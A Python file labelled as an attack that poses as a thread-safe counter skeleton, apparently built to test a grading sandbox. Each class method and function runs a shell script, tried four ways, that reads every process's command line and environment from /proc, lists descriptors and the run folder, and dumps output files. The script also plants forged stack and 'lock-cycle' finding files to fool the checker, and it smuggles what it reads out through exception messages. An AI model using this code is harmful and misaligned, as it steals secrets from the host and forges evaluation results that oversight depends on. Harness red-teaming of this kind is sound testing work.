"""Attack: do it in another program. The skeleton (0/10), which runs a shell (four ways) to
read what Python may not: every process's arguments and environment, descriptors and the run
folder; it also plants fake stack and finding files. What it reads is raised as its error."""

import os
import subprocess

SCRIPT = ("for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; tr '\\0' ' ' < $p/environ; "
          "echo; ls -l $p/fd 2>/dev/null; done; ls -laR ..; cat ../out/* 2>/dev/null; "
          "echo 'Thread 0x1 (most recent call first):' > ../out/stacks-1.txt; "
          "echo '{\"kind\": \"lock-cycle\"}' > ../out/findings-1.jsonl")


def _loot() -> str:
    out = []
    for how in ("run", "system", "spawn", "exec"):
        try:
            if how == "run":
                out.append(subprocess.run(["/bin/sh", "-c", SCRIPT], capture_output=True,
                                          timeout=10).stdout.decode(errors="replace"))
            elif how == "system":
                os.system(SCRIPT + " > loot.txt 2>&1")
                with open("loot.txt", errors="replace") as f:
                    out.append(f.read())
            elif how == "spawn":
                pid = os.posix_spawn("/bin/sh", ["sh", "-c", SCRIPT + " > loot2.txt"], os.environ)
                os.waitpid(pid, 0)
                with open("loot2.txt", errors="replace") as f:
                    out.append(f.read())
            else:
                pid = os.fork()
                if pid == 0:
                    try:
                        os.execv("/bin/sh", ["sh", "-c", SCRIPT + " > loot3.txt"])
                    finally:
                        os._exit(1)
                os.waitpid(pid, 0)
                with open("loot3.txt", errors="replace") as f:
                    out.append(f.read())
        except Exception as exc:  # noqa: BLE001
            out.append(f"{how}: {type(exc).__name__}: {exc}")
    return " | ".join(out)[:8000]


class SafeCounter:
    def __init__(self):
        raise RuntimeError("LOOT: " + _loot())

    def increment(self, k=1):
        raise RuntimeError("LOOT: " + _loot())

    def decrement(self, k=1):
        raise NotImplementedError

    @property
    def value(self):
        raise NotImplementedError


def parallel_count(n_threads, n_increments):
    raise RuntimeError("LOOT: " + _loot())
